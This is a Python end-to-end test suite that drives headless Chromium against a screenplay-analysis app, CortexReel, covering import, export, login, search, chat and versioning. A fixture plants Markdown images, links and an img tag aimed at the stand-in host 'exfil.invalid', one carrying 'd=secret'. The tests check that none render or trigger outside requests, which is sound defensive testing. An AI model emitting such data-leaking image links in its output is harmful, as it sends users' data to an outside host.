"""Journeys in a real browser: headless Chromium (Debian's) driven by Playwright against `streamlit run server.py`
(what `python3 dev.py app` starts) on loopback with the embedded defaults.

Screenshots of every page at 1280×800 and 1920×1080 go to test-output/e2e/ to be looked at. Every request the
browser makes to a host other than this server is counted: a screenplay's Markdown image must never become one.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pymupdf
import pytest

from cortexreel.bootstrap import build_services
from cortexreel.config import Settings
from cortexreel.container import Services
from cortexreel.domain.users import LOCAL_USER
from cortexreel.migration.browser_import import import_browser_export
from cortexreel.services import accounts
from tests.builders import fountain_script
from tests.migration_builders import export, export_bytes, history_entry, lato, night_shift, old_scene
from tests.servers import free_port, unavailable, wait_for_port

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
SHOTS = ROOT / "test-output" / "e2e"
TIMEOUT_MS = 60_000
SIZES = {"1280x800": {"width": 1280, "height": 800}, "1920x1080": {"width": 1920, "height": 1080}}
HOST = "exfil.invalid"
FITZ: Any = pymupdf


def hostile_entry() -> dict[str, Any]:
    """A saved analysis whose title and scene text carry Markdown images, links and bare URLs."""
    return history_entry(
        "analysis-1740000000000",
        "leak.pdf",
        {"title": f"Leak ![t](http://{HOST}/title.png)", "language": "en", "pageCount": 1, "format": "PDF"},
        [
            old_scene(
                1,
                f"INT. LAB ![h](http://{HOST}/heading.png) - NIGHT",
                location="LAB",
                time_of_day="NIGHT",
                scene_type="INTERIOR",
                description=f"Maya reads [the file](http://{HOST}/link) at http://{HOST}/bare and sends "
                f"![d](http://{HOST}/leak.png?d=secret) <img src='http://{HOST}/raw.png'>",
                characters=["MAYA"],
            )
        ],
        created="2025-07-02T09:00:00.000Z",
        modified="2025-07-02T09:00:00.000Z",
        timestamp=1740000000000,
    )


class Browser:
    """One Chromium with a count of the requests that left this machine."""

    def __init__(self, playwright: Any) -> None:
        self.browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        self.outside: list[str] = []

    def context(self, size: str = "1280x800") -> Any:
        context = self.browser.new_context(viewport=SIZES[size], accept_downloads=True)
        context.on("request", self._count)
        return context

    def _count(self, request: Any) -> None:
        host = urlsplit(request.url).hostname or ""
        if request.url.startswith(("http:", "https:", "ws:", "wss:")) and host not in ("127.0.0.1", "localhost"):
            self.outside.append(request.url)


@pytest.fixture
def browser() -> Iterator[Browser]:
    """Chromium, or a skip (a failure under CORTEXREEL_TEST_STRICT=1) when unavailable."""
    if not Path(CHROMIUM).exists() and shutil.which("chromium") is None:
        unavailable("Chromium is not installed (apt-get install chromium) so the browser tests cannot run")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        unavailable("the Python package playwright is not installed (pip install playwright)")
        raise
    with sync_playwright() as playwright:
        running = Browser(playwright)
        try:
            yield running
        finally:
            running.browser.close()


def _settings(data: Path, *, auth: bool) -> Settings:
    return Settings(_env_file=None, data_dir=data, auth_required=auth)


@contextmanager
def serve(tmp_path: Path, *, auth: bool, prepare: Callable[[Services], None]) -> Iterator[str]:
    """Fill a fresh data folder through the services, then start the server on it: the browser's first request
    is the first the server sees."""
    data = tmp_path / "data"
    prepare(build_services(_settings(data, auth=auth)))
    port = free_port()
    env = {name: value for name, value in os.environ.items() if not name.startswith("CORTEXREEL_")}
    env.pop("OPENAI_API_KEY", None)
    env["CORTEXREEL_DATA_DIR"] = str(data)
    env["CORTEXREEL_AUTH_REQUIRED"] = "true" if auth else "false"
    command = [
        sys.executable,
        "-m",
        "streamlit",
        "run",
        str(ROOT / "server.py"),
        "--server.headless",
        "true",
        "--server.port",
        str(port),
        "--server.address",
        "127.0.0.1",
        "--browser.gatherUsageStats",
        "false",
        "--server.fileWatcherType",
        "none",
    ]
    log_path = tmp_path / "streamlit.log"
    with log_path.open("wb") as log:
        process = subprocess.Popen(command, cwd=tmp_path, env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            if not wait_for_port(port, timeout=60):
                pytest.fail(f"the server did not start: {log_path.read_text()[-2000:]}")
            yield f"http://127.0.0.1:{port}"
        finally:
            process.terminate()
            try:
                process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                process.kill()
    assert "Traceback" not in log_path.read_text(), log_path.read_text()[-3000:]


def _shot(page: Any, name: str) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.wait_for_timeout(700)  # charts and tables draw after the text
    page.screenshot(path=str(SHOTS / f"{name}.png"))


def _table_fits(page: Any, where: str) -> None:
    """The scenes table shows every column without a sideways scroll (its grid scrolls inside .dvn-scroller)."""
    grid = page.locator("[data-testid='stDataFrame'] .dvn-scroller").first
    grid.wait_for(timeout=TIMEOUT_MS)
    overflow = grid.evaluate("e => e.scrollWidth - e.clientWidth")
    assert overflow <= 0, (where, f"{overflow} px wider than the page")


def _see(page: Any, text: str) -> None:
    page.get_by_text(text).first.wait_for(timeout=TIMEOUT_MS)


def _no_live_hostile_markup(page: Any, where: str) -> None:
    links = page.locator(f"a[href*='{HOST}']")
    found = [links.nth(index).evaluate("e => e.parentElement.outerHTML") for index in range(links.count())]
    assert not found, (where, found)
    assert page.locator(f"img[src*='{HOST}']").count() == 0, where
    assert page.get_by_text("Traceback").count() == 0, where


def _imported(services: Services, data: bytes, owner: str) -> list[str]:
    return [entry.script_id for entry in import_browser_export(services, data, owner=owner).entries]


@pytest.mark.slow
def test_first_hour_journey_without_accounts(browser: Browser, tmp_path: Path) -> None:
    ids: dict[str, str] = {}
    sample = export_bytes(export([night_shift()], chats={}))

    def prepare(services: Services) -> None:
        ids["lato"], ids["leak"] = _imported(services, export_bytes(export([lato(), hostile_entry()])), LOCAL_USER)
        (entry,) = import_browser_export(services, sample, owner=LOCAL_USER, dry_run=True).entries
        ids["night"] = entry.script_id

    sample_file = tmp_path / "cortex-reel-analysis-store.json"
    sample_file.write_bytes(sample)
    with serve(tmp_path, auth=False, prepare=prepare) as url:
        context = browser.context()
        page = context.new_page()
        # A deep link as the very first request after the start opens that scene inside the app.
        page.goto(f"{url}/scenes?script={ids['lato']}&scene=2", timeout=TIMEOUT_MS)
        _see(page, "ZN. JEZIORO - NOC")
        assert page.get_by_text("No screenplay yet").count() == 0
        _shot(page, "deep-link-first-request")

        # Import the browser app's export, then open an imported scene with every analysis tab.
        page.get_by_role("link", name="Upload").first.click()
        _see(page, "Bring in work from the browser version")
        page.get_by_role("region", name="Export file").locator("input[type=file]").set_input_files(str(sample_file))
        page.get_by_role("button", name="Import 1 script(s)").click()
        _see(page, "Imported 1 script(s)")
        page.goto(f"{url}/scenes?script={ids['night']}&scene=1", timeout=TIMEOUT_MS)
        _see(page, "INT. HOSPITAL CORRIDOR - NIGHT")
        page.get_by_role("tab", name="Safety").click()
        page.get_by_text("Risk level").first.wait_for(timeout=TIMEOUT_MS)

        # Export the Polish script as PDF and find its letters in the PDF's text.
        page.goto(f"{url}/export?script={ids['lato']}", timeout=TIMEOUT_MS)
        _see(page, "Ostatni dzień lata")
        page.get_by_text("PDF", exact=True).click()
        page.get_by_role("button", name="Build PDF").click()
        with page.expect_download(timeout=TIMEOUT_MS) as download:
            page.get_by_role("button", name="Download").click()
        pdf = Path(download.value.path()).read_bytes()
        with FITZ.open(stream=pdf, filetype="pdf") as document:
            text = "\n".join(item.get_text() for item in document)
        assert "OSTATNI DZIEŃ LATA" in text and "wypływa łódką" in text
        context.close()

        # Every page at both sizes, the hostile script current: no outside request, no link, no image from it.
        for size in SIZES:
            context = browser.context(size)
            page = context.new_page()
            for name, path, marker in (
                ("library", f"/?script={ids['leak']}", "Manage"),
                ("upload", "/upload", "Upload screenplays"),
                ("scenes", f"/scenes?script={ids['leak']}&scene=1", "Maya reads"),
                ("scenes-polish", f"/scenes?script={ids['lato']}&scene=2", "ZN. JEZIORO - NOC"),
                ("insights", f"/insights?script={ids['lato']}", "Insights"),
                ("export", f"/export?script={ids['leak']}", "Format"),
                ("settings", "/settings", "Settings"),
            ):
                page.goto(url + path, timeout=TIMEOUT_MS)
                _see(page, marker)
                if name == "insights":
                    page.locator("canvas").first.wait_for(timeout=TIMEOUT_MS)
                _no_live_hostile_markup(page, name)
                if name.startswith("scenes"):
                    _table_fits(page, f"{name}-{size}")
                _shot(page, f"{name}-{size}")
                if name == "scenes-polish":
                    page.get_by_role("tab", name="Breakdown").click()
                    _shot(page, f"scenes-breakdown-{size}")
                    if size == "1280x800":
                        page.set_viewport_size({"width": 1280, "height": 2000})
                        _shot(page, "scenes-breakdown-whole")
                        page.set_viewport_size(SIZES[size])
                if size == "1280x800" and name in ("insights", "scenes-polish", "library"):
                    page.set_viewport_size({"width": 1280, "height": 3600})  # the whole page, to check every chart
                    _shot(page, f"{name}-whole")
                    page.set_viewport_size(SIZES[size])
            page.goto(f"{url}/search", timeout=TIMEOUT_MS)
            page.get_by_label("Search scenes").fill("Maya reads the file")
            page.keyboard.press("Enter")
            _see(page, "best first")
            _no_live_hostile_markup(page, "search")
            _shot(page, f"search-{size}")
            page.goto(f"{url}/chat?script={ids['leak']}", timeout=TIMEOUT_MS)
            page.get_by_placeholder("Change the analysis or ask about the script").fill(
                f"which scenes mention ![c](http://{HOST}/chat.png)?"
            )
            page.keyboard.press("Enter")
            page.locator("[data-testid='stChatMessage']").nth(1).wait_for(timeout=TIMEOUT_MS)
            _no_live_hostile_markup(page, "chat")
            _shot(page, f"chat-{size}")
            # A question naming a time of day is answered from the analysis: the night scene only.
            page.goto(f"{url}/chat?script={ids['lato']}", timeout=TIMEOUT_MS)
            page.get_by_placeholder("Change the analysis or ask about the script").fill("które sceny są w nocy?")
            page.keyboard.press("Enter")
            answer = page.locator("[data-testid='stChatMessage']").last
            answer.get_by_text("night scene").first.wait_for(timeout=TIMEOUT_MS)
            assert "Scene 2 " in answer.inner_text() and "closest" not in answer.inner_text()
            _shot(page, f"chat-polish-{size}")
            context.close()
    assert browser.outside == []


@pytest.mark.slow
def test_login_lasts_across_reloads_and_tabs_and_returns_to_the_page_asked_for(
    browser: Browser, tmp_path: Path
) -> None:
    ids: dict[str, str] = {}

    def prepare(services: Services) -> None:
        accounts.create_first_admin(services, "anna", "correct horse battery")
        (ids["lato"],) = _imported(services, export_bytes(export([lato()], chats={})), "anna")

    with serve(tmp_path, auth=True, prepare=prepare) as url:
        context = browser.context()
        page = context.new_page()
        scene = f"{url}/scenes?script={ids['lato']}&scene=2"
        page.goto(scene, timeout=TIMEOUT_MS)  # the first request after the start, not logged in
        page.get_by_label("Login").fill("anna")
        page.get_by_label("Password").fill("correct horse battery")
        _shot(page, "login-1280x800")
        page.get_by_role("button", name="Log in").click()
        _see(page, "ZN. JEZIORO - NOC")  # back on the page asked for
        assert page.url == scene
        cookie = next(item for item in context.cookies() if item["name"] == "cortexreel_session")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Lax"

        page.reload()
        _see(page, "ZN. JEZIORO - NOC")
        _see(page, "Logged in as")

        other = context.new_page()  # a new tab, e.g. a search result opened beside
        other.goto(f"{url}/search", timeout=TIMEOUT_MS)
        _see(other, "Describe what happens")
        other.close()

        page.get_by_role("button", name="Log out").click()
        _see(page, "Log in to CortexReel")
        page.goto(scene, timeout=TIMEOUT_MS)
        page.get_by_label("Password").wait_for(timeout=TIMEOUT_MS)  # the old cookie no longer opens anything
        assert "/account/login" in page.url
        context.close()
    assert browser.outside == []


@pytest.mark.slow
def test_upload_analyse_open_edit_see_new_version(browser: Browser, tmp_path: Path) -> None:
    screenplay = tmp_path / "big_river.fountain"
    screenplay.write_text(fountain_script(12, title="Big River"), encoding="utf-8")

    with serve(tmp_path, auth=False, prepare=lambda services: None) as url:
        page = browser.context().new_page()
        page.goto(url, timeout=TIMEOUT_MS)
        _see(page, "Your library is empty")
        _shot(page, "0-empty-library")
        page.get_by_role("link", name="Upload").first.click()
        _see(page, "Upload screenplays")
        page.get_by_role("region", name="Screenplay files").locator("input[type=file]").set_input_files(str(screenplay))
        _see(page, "big_river.fountain")
        page.get_by_role("button", name="Analyse").click()
        _see(page, "Queued for analysis")
        _shot(page, "2-upload-queued")

        page.get_by_role("link", name="Library").first.click()
        page.get_by_text("done · 12 scenes").first.wait_for(state="attached", timeout=TIMEOUT_MS)
        _shot(page, "3-library-completed")

        page.get_by_role("link", name="Scenes").first.click()
        _see(page, "Scene 1 · EXT. RIVER BANK - DAY")
        _shot(page, "4-scene-open")

        page.get_by_role("tab", name="Narrative").click()
        page.get_by_label("Emotional tone").fill("bittersweet")
        page.get_by_label("Change note").nth(1).fill("Reads warmer than tense")
        page.get_by_role("button", name="Save narrative as a new version").click()
        _see(page, "Saved version 2")
        _shot(page, "5-edit-saved")

        page.get_by_role("tab", name="History").click()
        _see(page, "Compare version")
        _shot(page, "6-history")
        assert page.get_by_text("Reverted").count() == 0
